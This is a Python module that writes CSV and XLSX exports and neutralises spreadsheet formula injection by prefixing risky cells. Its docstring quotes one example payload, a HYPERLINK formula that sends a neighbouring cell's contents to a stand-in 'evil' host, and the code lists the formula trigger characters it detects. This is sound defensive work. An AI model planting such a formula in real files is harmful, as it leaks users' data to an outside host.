"""The one writer of spreadsheet files (CSV and XLSX): text that a spreadsheet would run as a
formula is neutralised (OWASP "CSV injection").

Agent names, override and dispute reasons, notes and evaluator names are typed by people; a
cell starting with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed (or
with spaces before one of them, or their full-width forms ``＝＋－＠`` that some Excel IMEs
turn into the ASCII ones) may be run as a formula when the file is opened:
``=HYPERLINK("http://evil/?"&A2, "Click")`` sends a neighbour's cell away.

* CSV has no cell types, so such text gets a leading ``'`` as OWASP recommends. A spreadsheet
  shows the text as written, after the apostrophe; a program that reads the CSV sees the
  apostrophe.
* XLSX cells are typed: such text is stored as a text cell (never a formula, which openpyxl
  would otherwise make of ``=...``) with Excel's "quote prefix" set, so it shows exactly as
  written, with no apostrophe, and stays text even when someone edits the cell.
* Numbers (``int``, ``float``, ``Decimal``) are written as numbers, so ``-3`` points stay a
  number that sums; only text is neutralised. Callers pass numbers as numbers (a formatted
  ``"-3.00"`` is text and would get the apostrophe: pass ``Decimal("-3.00")``).

PDF exports draw text with reportlab's canvas (``drawString``), which neither evaluates nor
parses markup, so they need nothing here. The module sits in ``collectors`` (the bottom
layer, which ``qa`` and ``dashboard`` already import) so that every package can use it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal
from typing import TextIO

from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")
_LEADING_SPACE = " \u00a0\u3000"
SHEET_TITLE_MAX = 31  # Excel's limit


def is_risky(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula."""
    stripped = text.lstrip(_LEADING_SPACE)
    return bool(stripped) and stripped[0] in TRIGGERS


def _is_number(value: object) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def _plain(value: object) -> object:
    """Numbers as they are; dates as ISO text; ``None`` as empty; anything else as text."""
    if value is None:
        return ""
    if _is_number(value):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    return str(value)


def csv_cell(value: object) -> object:
    """One CSV cell: a number as it is, text with a leading ``'`` when it is risky."""
    plain = _plain(value)
    if isinstance(plain, str) and is_risky(plain):
        return "'" + plain
    return plain


def write_csv(out: TextIO, columns: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
    """Write a header and rows as CSV (``\\n`` line ends); returns the number of data rows.

    Args:
        out: an open text file (``newline=""``) or a ``StringIO``.
        columns: the header.
        rows: the data rows, values of any type (see :func:`csv_cell`).
    """
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([csv_cell(c) for c in columns])
    count = 0
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
        count += 1
    return count


def csv_text(columns: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """:func:`write_csv` into a string."""
    out = io.StringIO()
    write_csv(out, columns, rows)
    return out.getvalue()


@dataclass(frozen=True)
class Sheet:
    """One worksheet: a header row (bold, frozen) and the data rows.

    Attributes:
        title: the sheet's name (cut to Excel's 31 characters).
        columns: the header; empty for a sheet without one.
        rows: the data rows.
        number_formats: Excel number formats by column name (e.g. ``"0.00"``).
        widths: column widths; empty to fit the content (between 9 and ``max_width``).
        max_width: the widest a fitted column gets.
        header_fill: a background colour (hex) for the header, with white text.
        auto_filter: put filter buttons on the header.
    """

    title: str
    columns: Sequence[str]
    rows: Sequence[Sequence[object]]
    number_formats: Mapping[str, str] = field(default_factory=dict)
    widths: Sequence[float] = ()
    max_width: float = 60
    header_fill: str | None = None
    auto_filter: bool = False


def _append(sheet: Worksheet, values: Sequence[object]) -> None:
    sheet.append([_plain(v) for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and is_risky(cell.value):
            cell.data_type = "s"  # openpyxl made a formula of "=..."
            cell.quotePrefix = True


def _header(sheet: Worksheet, spec: Sheet) -> None:
    _append(sheet, spec.columns)
    for cell in sheet[1]:
        cell.font = Font(bold=True, color="FFFFFF" if spec.header_fill else None)
        if spec.header_fill:
            cell.fill = PatternFill("solid", fgColor=spec.header_fill)
            cell.alignment = Alignment(wrap_text=True, vertical="top")
    sheet.freeze_panes = "A2"


def _formats(sheet: Worksheet, spec: Sheet) -> None:
    for index, column in enumerate(spec.columns, start=1):
        fmt = spec.number_formats.get(column)
        if fmt:
            for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
                cell.number_format = fmt


def _widths(sheet: Worksheet, spec: Sheet) -> None:
    for index in range(1, sheet.max_column + 1):
        letter = get_column_letter(index)
        if spec.widths:
            width = spec.widths[min(index, len(spec.widths)) - 1]
        else:
            longest = max((len(str(c.value or "")) for c in sheet[letter]), default=8)
            width = min(max(longest + 2, 9), spec.max_width)
        sheet.column_dimensions[letter].width = width


def _fill_sheet(book: Workbook, n: int, spec: Sheet) -> None:
    sheet = book.create_sheet(title=spec.title[:SHEET_TITLE_MAX] or f"Sheet {n}")
    if spec.columns:
        _header(sheet, spec)
    for row in spec.rows:
        _append(sheet, row)
    _formats(sheet, spec)
    _widths(sheet, spec)
    if spec.auto_filter and spec.columns:
        sheet.auto_filter.ref = sheet.dimensions


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """An XLSX workbook with these sheets, in order."""
    book = Workbook()
    default = book.active
    if default is not None:
        book.remove(default)
    for n, spec in enumerate(sheets, start=1):
        _fill_sheet(book, n, spec)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
